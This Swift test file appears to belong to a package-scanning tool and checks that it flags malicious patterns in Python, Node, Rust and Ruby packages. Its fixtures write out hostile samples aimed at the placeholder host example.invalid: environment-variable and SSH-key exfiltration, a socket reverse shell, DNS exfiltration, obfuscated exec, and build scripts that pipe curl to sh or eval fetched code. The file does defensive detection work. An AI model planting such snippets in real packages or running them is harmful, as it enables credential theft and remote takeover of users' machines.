import Testing

@testable import Provenance

/// Shapes of attacks beyond the plainest. Every payload is harmless: addresses are of
/// `example.invalid`, and nothing is run.
@Suite("An attack in disguise")
struct AttackTests {
    private func inspect(_ files: [(String, String)], name: String) -> PackageInspection {
        let entries = files.map { (name: "x-1/" + $0.0, type: UInt8(0x30), content: $0.1) }
        return InspectionTests.inspector.inspect(ArchiveTests.tar(entries), name: name)
    }

    private static let packed = "cHJpbnQoMSkK" + String(repeating: "QUFB", count: 60)

    static let python: [(String, String)] = [
        ("EXEC-1", "import base64\ndef go(c):\n    exec(c)\ngo(base64.b64decode('\(packed)'))\n"),
        (
            "EXEC-1",
            "import base64\ndef d():\n    return base64.b64decode('\(packed)')\nexec(d())\n"
        ),
        ("EXEC-1", "__import__('builtins').exec(__import__('zlib').decompress(b'x'))\n"),
        (
            "EXEC-1",
            "import base64\n\u{1D41E}\u{1D431}\u{1D41E}\u{1D41C}(base64.b64decode('\(packed)'))\n"
        ),
        ("EXEC-3", "g = getattr(__builtins__, 'ex' + 'ec')\n"),
        (
            "CRED-2",
            """
            import json, os, requests
            d = {}
            for k, v in os.environ.items():
                d[k] = v
            requests.post('https://example.invalid', data=json.dumps(d))
            """
        ),
        (
            "ID-1",
            "import requests, getpass\n"
                + "requests.post('https://example.invalid', data={'u': getpass.getuser()})\n"
        ),
        (
            "SHELL-1",
            "import socket, subprocess\ns = socket.socket()\ns.connect(('example.invalid', 1))\n"
                + "subprocess.call(['sh'], stdin=s.fileno(), stdout=s.fileno())\n"
        ),
        (
            "DNS-1",
            "import socket, binascii\nh = binascii.hexlify(b'x').decode()\n"
                + "socket.gethostbyname(h + '.example.invalid')\n"
        ),
        ("EXEC-1", "exec('\\x69mport os') if 0 else exec(bytes.fromhex('00'))\n"),
    ]

    @Test("in Python is seen through", arguments: python)
    func sees(rule: String, text: String) {
        let info = ("PKG-INFO", "Name: x\nVersion: 1\n\n")
        let found = inspect([("x/__init__.py", text), info], name: "x-1.tar.gz")
        #expect(found.marks.contains { $0.rule == rule && $0.points >= 60 }, "\(found.marks)")
        #expect(found.answer != .pass)
    }

    @Test("that waits in another module is found where it is called from")
    func modules() {
        let text = """
            import requests, os
            def run():
                got = [open(os.path.expanduser(p)).read() for p in ('~/.ssh/id_rsa', '~/.netrc')]
                requests.post('https://example.invalid', json=got)
            """
        let info = ("PKG-INFO", "Name: x\nVersion: 1\n\n")
        let called = inspect(
            [("x/core.py", text), ("x/__init__.py", "from .core import run\nrun()\n"), info],
            name: "x-1.tar.gz"
        )
        #expect(called.answer == .refuse, "\(called.marks)")
        let waiting = inspect(
            [("x/core.py", text), ("x/__init__.py", "from .core import run\n"), info],
            name: "x-1.tar.gz"
        )
        // What waits for a call is looked at: it still names its own address.
        #expect(waiting.answer == .review, "\(waiting.marks)")
    }

    static let node: [(String, String)] = [
        (
            "NET-1",
            "require('https').get('https://example.invalid',r=>{let d='';"
                + "r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"
        ),
        ("HIDE-2", "const n = 'Y2hpbGRfcHJvY2Vzcw==';\nrequire(atob(n));\n"),
        ("HIDE-3", "var _0x1a2b=1,_0x3c4d=2,_0x5e6f=3,_0x7a8b=4;\n"),
    ]

    @Test("in JavaScript is seen through", arguments: node)
    func seesNode(rule: String, text: String) {
        let found = inspect(
            [("package.json", #"{"name":"x","version":"1.0.0"}"#), ("i.js", text)],
            name: "x-1.0.0.tgz"
        )
        #expect(found.marks.contains { $0.rule == rule && $0.points >= 60 }, "\(found.marks)")
    }

    @Test(
        "in what builds a crate or a gem is seen",
        arguments: [
            (
                "x-1.crate", "build.rs",
                "fn main() { Command::new(\"sh\").arg(\"curl https://example.invalid | sh\"); }"
            ),
            (
                "x-1.crate", "build.rs",
                "fn main() {\n let v = std::env::vars();\n"
                    + " TcpStream::connect(\"example.invalid:1\");\n}"
            ),
            (
                "x-1.gem", "ext/extconf.rb",
                "require 'net/http'\neval(Net::HTTP.get(URI('http://example.invalid')))\n"
            ),
        ]
    )
    func seesOthers(name: String, path: String, text: String) {
        let manifest = ("Cargo.toml", "[package]\nname = \"x\"\nversion = \"1\"\n")
        let found = inspect([manifest, (path, text)], name: name)
        #expect(found.answer == .refuse, "\(found.marks)")
    }

    static let honest: [(String, String)] = [
        // What a bundler makes: one letter for many things, each in its own function.
        (
            "bundle.js",
            "(function(){var e=process.env;function a(){return e.HOME}})();"
                + "(function(){var e=require('https');e.request('https://example.invalid')})();"
        ),
        ("class.js", "var p = /[\u{202A}-\u{202E}\u{2066}-\u{2069}]/g;\n"),
        ("proxy.js", "const e = process.env.HTTPS_PROXY; fetch('https://example.invalid', {e});\n"),
    ]

    @Test("is not seen in honest code", arguments: honest)
    func leaves(path: String, text: String) {
        let found = inspect(
            [("package.json", #"{"name":"x","version":"1.0.0"}"#), (path, text)],
            name: "x-1.0.0.tgz"
        )
        #expect(found.answer == .pass, "\(found.marks)")
    }

    @Test("names of programs are one's own, and of the groups that become programs")
    func entryPoints() {
        let text = "[virtualenv.activate]\nbash = x:y\n[console_scripts]\npip3 = pip:main\n"
        let members = [("pip-1.dist-info/entry_points.txt", text)]
        let metadata = ("pip-1.dist-info/METADATA", "Name: pip\nVersion: 1\n\n")
        let layout = PackageLayout(
            (members + [metadata]).map { name, content in
                PackageInspector.Member(
                    entry: ArchiveEntry(name: name, kind: .file, size: content.utf8.count),
                    bytes: Array(content.utf8)
                )
            },
            .wheel,
            fileName: "pip-1-py3-none-any.whl"
        )
        #expect(layout.marks.isEmpty, "\(layout.marks)")
    }
}
